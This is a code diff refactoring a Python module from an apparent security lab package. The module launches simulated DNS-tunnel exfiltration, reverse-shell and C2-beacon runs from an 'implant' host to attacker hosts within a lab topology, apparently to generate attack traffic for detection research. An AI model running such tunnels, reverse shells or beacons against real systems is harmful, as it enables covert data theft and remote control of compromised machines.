@@ -9,8 +9,6 @@ modules that start the real tools and clean up after themselves.
 
 from __future__ import annotations
 
-import sys
-
 from amlhp.lab.attack_services import (
     BEACON_ATTACKER,
     C2_PORT,
@@ -24,7 +22,16 @@ from amlhp.lab.attack_services import (
     TUNNEL_PORT,
 )
 from amlhp.lab.dnstunnel import tunnel_network
-from amlhp.lab.scenario import AttackContext, Scenario, ToolRun, attacker, time_limit, units
+from amlhp.lab.scenario import (
+    AttackContext,
+    Scenario,
+    ToolRun,
+    attacker,
+    driver_run,
+    run_seed,
+    time_limit,
+    units,
+)
 
 #: curl's per-transfer rate cap: spreads a transfer over time and over smaller segments
 TRANSFER_RATE = "400k"
@@ -33,42 +40,37 @@ TRANSFER_RATE = "400k"
 def _dns_tunnel(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
     t = ctx.topology
     data = units(s, packets, 2_000, 3_000_000)
-    seconds = time_limit(ctx, 120)
-    argv = [
-        sys.executable, "-m", "amlhp.lab.dnstunnel",
+    return driver_run(
+        "dnstunnel", time_limit(ctx, 120),
         "--resolver", str(t.dns_tunnel_resolver),
         "--server", str(t.tunnel_server), "--server-port", str(TUNNEL_PORT),
-        "--domain", TUNNEL_DOMAIN, "--password", TUNNEL_PASSWORD,
-        "--bytes", str(data), "--seconds", f"{seconds:.0f}",
-    ]  # fmt: skip
-    return ToolRun(argv, timeout_s=seconds + 5)
+        "--domain", TUNNEL_DOMAIN, "--password", TUNNEL_PASSWORD, "--bytes", str(data),
+    )  # fmt: skip
+
+
+def _implant_run(module: str, ctx: AttackContext, seconds: float, *args: str) -> ToolRun:
+    """A C2 driver whose device side runs from the compromised device, seeded per run."""
+    implant = ("--implant", str(ctx.topology.implant), "--seed", run_seed(ctx))
+    return driver_run(module, seconds, *implant, *args)
 
 
 def _reverse_shell(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
-    t = ctx.topology
     commands = units(s, packets, 2, 400)
-    seconds = time_limit(ctx, 120)
-    argv = [
-        sys.executable, "-m", "amlhp.lab.revshell",
-        "--attacker", str(t.attacker(REVSHELL_ATTACKER)), "--port", str(REVSHELL_PORT),
-        "--implant", str(t.implant), "--commands", str(commands),
-        "--seconds", f"{seconds:.0f}", "--pace", "0.5",
-        "--seed", str(ctx.seed * 100 + ctx.iteration),
-    ]  # fmt: skip
-    return ToolRun(argv, timeout_s=seconds + 5)
+    attacker_host = str(ctx.topology.attacker(REVSHELL_ATTACKER))
+    return _implant_run(
+        "revshell", ctx, time_limit(ctx, 120),
+        "--attacker", attacker_host, "--port", str(REVSHELL_PORT),
+        "--commands", str(commands), "--pace", "0.5",
+    )  # fmt: skip
 
 
 def _beacon(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
-    t = ctx.topology
     beacons = units(s, packets, 2, 5_000)
-    seconds = time_limit(ctx, 300)
-    argv = [
-        sys.executable, "-m", "amlhp.lab.beacon",
-        "--server", str(t.attacker(BEACON_ATTACKER)), "--port", str(C2_PORT),
-        "--implant", str(t.implant), "--beacons", str(beacons), "--interval", "0.4",
-        "--seconds", f"{seconds:.0f}", "--seed", str(ctx.seed * 100 + ctx.iteration),
-    ]  # fmt: skip
-    return ToolRun(argv, timeout_s=seconds + 5)
+    server = str(ctx.topology.attacker(BEACON_ATTACKER))
+    return _implant_run(
+        "beacon", ctx, time_limit(ctx, 300),
+        "--server", server, "--port", str(C2_PORT), "--beacons", str(beacons), "--interval", "0.4",
+    )  # fmt: skip
 
 
 def _curl(ctx: AttackContext, seconds: float) -> list[str]:
